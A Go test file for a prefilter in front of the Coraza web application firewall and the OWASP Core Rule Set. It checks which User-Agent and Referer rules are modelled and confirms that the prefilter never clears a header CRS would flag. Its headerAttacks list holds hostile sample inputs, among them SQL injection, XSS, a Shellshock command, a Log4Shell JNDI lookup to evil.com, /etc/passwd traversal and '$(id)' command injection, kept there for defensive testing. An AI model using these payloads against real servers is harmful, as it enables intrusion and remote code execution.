package crs

import (
	"slices"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
)

// headerDataFiles are the data files of the header rules' @pmFromFile
// lists as of this CRS: roleLiterals reads whichever a rule names, and a
// new one should be looked at (its size, its alphabet) before it is.
var headerDataFiles = []string{
	"@owasp_crs/scanners-user-agents.data",
	"@owasp_crs/java-classes.data",
}

// TestHeaderRulesModelled proves plainHeaderSlow asks every paranoia-1 rule
// that reads User-Agent or Referer in a way it models: each first condition
// has an operator the prefilter answers for (the @rx patterns in headerRx,
// the word lists in headerWords, libinjection, the byte range of
// headerBytes) and a transformation chain that reaches one of the forms
// plainHeaderSlow asks (as written, URL-decoded, without spaces, through
// cmdLine; the other transformations leave a value of headerBytes that is
// its own htmlEntityDecode as it is). A new rule or a new transformation in
// a CRS update fails here instead of slipping past the prefilter.
func TestHeaderRulesModelled(t *testing.T) {
	rules, err := headerRules(embeddedFS{coreruleset.FS})
	if err != nil {
		t.Fatal(err)
	}
	identity := map[string]bool{"none": true, "utf8toUnicode": true, "htmlEntityDecode": true, "jsDecode": true,
		"cssDecode": true, "removeNulls": true, "lowercase": true}
	chains := [][]string{nil, {"urlDecodeUni"}, {"removeWhitespace"}, {"urlDecodeUni", "removeWhitespace"},
		{"cmdLine"}, {"urlDecodeUni", "cmdLine"}}
	var ids []string
	for _, r := range rules {
		ids = append(ids, r.id)
		var rest []string
		for _, tr := range r.trans {
			if !identity[tr] {
				rest = append(rest, tr)
			}
		}
		if !slices.ContainsFunc(chains, func(c []string) bool { return slices.Equal(c, rest) }) {
			t.Errorf("rule %s: transformations %v are not modelled", r.id, r.trans)
		}
		op := r.operator
		switch {
		case strings.HasPrefix(op, "@rx "):
		case op == "@detectSQLi", op == "@detectXSS":
		case op == "@validateByteRange 1-255":
		case strings.HasPrefix(op, "@pmFromFile "):
			if !slices.Contains(headerDataFiles, "@owasp_crs/"+strings.TrimPrefix(op, "@pmFromFile ")) {
				t.Errorf("rule %s: %s is not in headerDataFiles", r.id, op)
			}
		default:
			t.Errorf("rule %s: operator %q is not modelled", r.id, op)
		}
	}
	t.Logf("%d header rules: %v", len(rules), ids)
	// The inventory must not pass vacuously.
	for _, id := range []string{"913100", "920270", "930110", "932170", "932340", "941100", "941160", "942100", "944150"} {
		if !slices.Contains(ids, id) {
			t.Errorf("rule %s not found among the header rules", id)
		}
	}
}

// TestDecodeHeader checks decodeWithin over headerBytes against urlDecodeUni where it says
// it models it, and that it refuses what it does not.
func TestDecodeHeader(t *testing.T) {
	for _, tc := range []struct {
		in string
		ok bool
	}{
		{"MacBookPro8%2C1", true}, {"year%20review", true}, {"a+b", true}, {"plain", true},
		{"%3Cscript%3E", false}, {"%u0041", false}, {"%zz", false}, {"x%2", false}, {"%0a", false}, {"%5c", false},
		{"%C3%A9", false}, {"%27", false},
	} {
		d, ok := decodeWithin(tc.in, headerBytes)
		if ok != tc.ok {
			t.Errorf("decodeWithin(%q, headerBytes) ok = %v, want %v", tc.in, ok, tc.ok)
		}
		if ok && d != urlDecodeUni(tc.in) {
			t.Errorf("decodeWithin(%q, headerBytes) = %q, urlDecodeUni %q", tc.in, d, urlDecodeUni(tc.in))
		}
	}
}

// realHeaders are User-Agent and Referer values from ../shared apache-real
// that the plain alphabet once refused: '@', '!', '?', '=', '&', '%'.
var realHeaders = []string{
	"Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)",
	"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
	"Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)",
	"Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)",
	"Safari/9537.73.11 CFNetwork/673.0.3 Darwin/13.0.0 (x86_64) (MacBookPro8%2C1)",
	"http://www.semicomplete.com/blog/tags/year%20review",
	"http://www.google.fr/url?sa=t&rct=j&q=&esrc=s&source=web&cd=1&ved=0CDAQFjAA&url=http%3A%2F%2Fwww.semicomplete.com%2F&ei=x&usg=y",
	"https://www.google.com/search?q=logstash+grok+patterns&ie=utf-8&oe=utf-8#q=x",
	"http://www.semicomplete.com/projects/xdotool/xdotool.xhtml",
}

// headerAttacks are payloads CRS looks for in User-Agent and Referer.
var headerAttacks = []string{
	"' or 1=1--", "1 union select password from users", "<script>alert(1)</script>", "() { :; }; /bin/bash -c id",
	"${jndi:ldap://evil.com/a}", "../../etc/passwd", "javascript:alert(1)", "sqlmap/1.5", "nikto", "Nessus",
	"masscan", "select pg_sleep(5)", "; ls", "java.lang.Runtime", "%3Cscript%3E", "1%27%20or%201%3D1--",
	"&lt;script&gt;", "@import url(x)", "data:text/html;base64,PHNjcmlwdD4=", "x onload=alert(1)",
	"() {", "..%2F..%2Fetc%2Fpasswd", "${${lower:j}ndi:x}", "|| id", "$(id)",
	// 941130's XML and HTML vectors and 913100's scanner names, which CRS
	// looks for in the User-Agent only.
	"/page.xhtml", " xmlns:x=y", "<a xlink:href=x>", " formaction=x", "Nmap Scripting Engine", "sqlmap",
}

// TestHeaderMutations replays the real header values, and each with an
// attack payload in front, inside and after it, in both roles: whatever
// MayMatch rules out, Coraza must not flag. It also checks that the real
// values themselves are now ruled out and that the attacks reach Coraza.
func TestHeaderMutations(t *testing.T) {
	if testing.Short() {
		t.Skip("evaluates requests through Coraza")
	}
	c := checker(t, 1)
	var plainReal, flagged, sent int
	check := func(ua, ref string) bool {
		ev := web("GET", "/index.html", ua, ref)
		if c.MayMatch(ev) {
			return true
		}
		r := requestOf(ev)
		if v := c.evaluate(&r); len(v.Hits) != 0 || v.Score != 0 {
			t.Errorf("MayMatch false but CRS fires %v: UA=%q Referer=%q", ruleIDs(v), ua, ref)
		}
		return false
	}
	const ua = "Mozilla/5.0 (X11; Linux x86_64)"
	for _, h := range realHeaders {
		a, b := check(h, ""), check(ua, h)
		if !a || !b {
			plainReal++
		}
		for _, x := range headerAttacks {
			for _, m := range []string{x + h, h + x, h[:len(h)/2] + x + h[len(h)/2:], h + " " + x, x} {
				for _, pair := range [][2]string{{m, ""}, {ua, m}} {
					if check(pair[0], pair[1]) {
						sent++
						r := requestOf(web("GET", "/index.html", pair[0], pair[1]))
						if v := c.evaluate(&r); len(v.Hits) != 0 {
							flagged++
						}
					}
				}
			}
		}
	}
	// A Referer naming an .xhtml page is plain; as a User-Agent it is not
	// (941130), and Coraza agrees (checked above).
	const xhtml = "http://www.semicomplete.com/projects/xdotool/xdotool.xhtml"
	if check(ua, xhtml) {
		t.Errorf("Referer %q goes to Coraza", xhtml)
	}
	if !check(xhtml, "") {
		t.Errorf("User-Agent %q is ruled out", xhtml)
	}
	t.Logf("%d of %d real headers ruled out; %d mutations sent to Coraza, %d of them flagged", plainReal, len(realHeaders), sent, flagged)
	if plainReal < len(realHeaders)/2 {
		t.Errorf("only %d of %d real header values are ruled out", plainReal, len(realHeaders))
	}
	if flagged == 0 {
		t.Error("no mutation was flagged: the attacks test nothing")
	}
}

// TestHeaderRuleReads checks which header a rule's targets read, on
// written targets and on the rules of the embedded CRS whose targets the
// split of the header gates rests on.
func TestHeaderRuleReads(t *testing.T) {
	for _, tc := range []struct {
		targets   string
		ua, refer bool
	}{
		{"REQUEST_HEADERS|!REQUEST_HEADERS:Cookie", true, true},
		{"REQUEST_HEADERS:User-Agent", true, false},
		{"REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer|ARGS", true, true},
		{"REQUEST_HEADERS|!REQUEST_HEADERS:Referer", true, false},
		{"REQUEST_HEADERS:referer", false, true},
		{"REQUEST_HEADERS|!request_headers:user-agent", false, true},
		{"REQUEST_HEADERS_NAMES|ARGS", false, false},
		{"&REQUEST_HEADERS:User-Agent", false, false},
	} {
		r := headerRule{targets: tc.targets}
		if got := r.reads("User-Agent"); got != tc.ua {
			t.Errorf("%q reads User-Agent = %v, want %v", tc.targets, got, tc.ua)
		}
		if got := r.reads("Referer"); got != tc.refer {
			t.Errorf("%q reads Referer = %v, want %v", tc.targets, got, tc.refer)
		}
	}
	rules, err := headerRules(embeddedFS{coreruleset.FS})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][2]bool{"913100": {true, false}, "941130": {true, false}, "941170": {true, true},
		"944110": {true, true}, "932340": {true, true}, "930110": {true, false}}
	for _, r := range rules {
		if w, ok := want[r.id]; ok {
			if got := [2]bool{r.reads("User-Agent"), r.reads("Referer")}; got != w {
				t.Errorf("rule %s (%s) reads User-Agent, Referer = %v, want %v", r.id, r.targets, got, w)
			}
			delete(want, r.id)
		}
	}
	for id := range want {
		t.Errorf("rule %s not among the header rules", id)
	}
}
